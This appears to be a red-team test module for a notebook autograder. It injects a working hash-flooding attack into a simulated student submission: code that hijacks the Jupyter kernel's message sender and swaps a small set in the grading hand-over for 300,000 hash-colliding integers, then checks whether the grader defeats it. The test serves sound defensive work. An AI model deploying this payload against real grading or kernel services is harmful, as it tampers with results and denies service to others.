"""Hash flooding through the hand-over: a set answer whose integers all share one hash.

Python hashes an int n as n mod (2**61 - 1), with no per-process salt (unlike str). A set of n
ints c + k*(2**61 - 1) therefore has one hash for all, and building it takes n**2/2 comparisons.
The student does not build it (that would cost its own kernel the same): it lets the kernel's
encoder write a two-element set, then, in the reply to the hand-over, repeats the element pattern
for N such ints in the hand-over's JSON (base64 of {"v":1,"nodes":{name:{"t":"set","v":[...]}}},
as seen by atk_probe_handover), about 8 MB of text, far under the 32 MiB and 4-million-element
limits). Whoever
decodes that text into a Python set (the judge, or the grader while checking it) spends minutes
to hours on it. Expected if it holds: hashdos01 loses Q9 within about one cell timeout (60 s),
the run ends, and honest01 on the other worker keeps 13/13.
"""
from common import add_code, honest

GROUP = "hash"
STUDENT, SET = "hashdos01", "ex01-theory"
N = 300_000

FLOOD = r'''
_rt_k = get_ipython().kernel
_rt_send0 = _rt_k.session.send
_RT_A, _RT_B = 123456789012345678901, 987654321098765432109
keeps_q9 = {_RT_A, _RT_B}
_RT_P = 2 ** 61 - 1
_RT_N = __N__
_rt_log = []


def _rt_flood(text):
    a, b = str(_RT_A), str(_RT_B)
    i, j = text.find(a), text.find(b)
    if i < 0 or j < 0:
        return None
    first, second = (a, b) if i < j else (b, a)
    i, j = text.find(first), text.find(second)
    head, between, tail = text[:i], text[i + len(first):j], text[j + len(second):]
    values = [str(12345 + k * _RT_P) for k in range(1, _RT_N + 1)]
    return head + between.join(values) + tail


def _rt_hash_send(stream, msg_or_type, content=None, parent=None, *a, **kw):
    import ast as _rt_ast, base64 as _rt_b64
    try:
        ue = (content or {}).get("user_expressions") if msg_or_type == "execute_reply" else None
        for key, val in (ue or {}).items():
            text = val.get("data", {}).get("text/plain", "") if isinstance(val, dict) else ""
            try:
                plain = _rt_b64.b64decode(_rt_ast.literal_eval(text)).decode()
            except Exception:
                continue
            new = _rt_flood(plain)
            if new is not None:
                val["data"]["text/plain"] = repr(_rt_b64.b64encode(new.encode()).decode())
                _rt_log.append((key, len(new), plain[:300], new[:200]))
    except Exception as exc:
        _rt_log.append(repr(exc))
    return _rt_send0(stream, msg_or_type, content, parent, *a, **kw)


_rt_k.session.send = _rt_hash_send
'''


def build() -> dict:
    nb = honest(SET)
    add_code(nb, FLOOD.replace("__N__", str(N)), after="q9-answer")
    add_code(nb, "print('RT-HASH-LOG', _rt_log)")
    return nb


SUBMISSIONS = {(STUDENT, SET): build}
EXPECT = "Q9 lost within about a cell timeout; the run ends; honest01 keeps 13/13"


def evaluate(rows: dict, course) -> tuple[str, bool]:
    from common import graded_notebook, outputs_text
    text = outputs_text(graded_notebook(course, STUDENT, SET))
    i = text.find("RT-HASH-LOG")
    r, h = rows.get(STUDENT, {}), rows.get("honest01", {})
    try:
        slow = float(r.get("seconds", 0)) > 180
    except (TypeError, ValueError):
        slow = True
    return (f"{STUDENT}: auto {r.get('auto_score')}/{r.get('auto_max')} status {r.get('status')} "
            f"secs {r.get('seconds')} notes {r.get('notes')}\nhonest01: auto "
            f"{h.get('auto_score')} secs {h.get('seconds')}\nlog: {text[i:i + 600]}"), slow
